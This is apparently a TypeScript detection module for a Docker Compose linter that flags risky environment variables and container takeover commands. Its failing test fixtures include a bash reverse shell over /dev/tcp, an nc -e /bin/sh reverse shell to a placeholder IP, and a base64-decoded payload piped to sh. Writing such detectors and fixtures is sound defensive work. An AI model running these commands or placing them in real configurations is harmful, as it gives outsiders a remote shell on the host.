import { VARIABLE_RULES, variableRisk } from '../../container-options/variables.ts';
import { TAKEOVER, takeoverIn } from '../../scripts/texts.ts';
import { about, type ComposeCheck, itemsOf, servicesOf, variablesOf } from './services.ts';

const withVariable = ([name, value]: readonly [string, string]) =>
  `services:\n  web:\n    image: web:1\n    environment:\n      ${name}: "${value}"\n`;
const inList = ([name, value]: readonly [string, string]) =>
  `services:\n  web:\n    image: web:1\n    environment: ["${name}=${value}"]\n`;

/** What variables and commands of a service open. */
export const VARIABLE_CHECKS: readonly ComposeCheck[] = [
  ...VARIABLE_RULES.map(({ risk, bad, good, ...head }): ComposeCheck => ({
    ...head,
    id: `compose-${risk}`,
    *find(subject) {
      for (const service of servicesOf(subject))
        for (const { keys, name, value } of variablesOf(service, 'environment'))
          if (value !== undefined && variableRisk(name, value) === risk)
            yield about(service, keys, `${name}: ${value}`, `no ${name}`);
    },
    failing: [withVariable(bad), inList(bad)],
    passing: [withVariable(good), inList(good)],
  })),
  {
    ...TAKEOVER,
    id: 'compose-takeover',
    *find(subject) {
      for (const service of servicesOf(subject))
        for (const part of [['command'], ['entrypoint'], ['healthcheck', 'test']]) {
          const found = takeoverIn(itemsOf(service, ...part).map(({ text = '' }) => text));
          if (found !== undefined) yield about(service, part, found, 'the program of the image');
        }
    },
    failing: [
      'services:\n  web:\n    image: web:1\n    command: bash -c "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"\n',
      'services:\n  web:\n    image: web:1\n    command: ["nc", "192.0.2.7", "4444", "-e", "/bin/sh"]\n',
      'services:\n  web:\n    image: web:1\n    entrypoint: [sh, -c, "echo bHMK | base64 -d | sh"]\n',
    ],
    passing: [
      'services:\n  web:\n    image: web:1\n    command: ["sh", "-c", "nc -z db 5432 && exec web"]\n',
      'services:\n  web:\n    image: web:1\n    command: sh -c "echo $$KEY | base64 -d > /tmp/key && exec web"\n',
    ],
  },
];
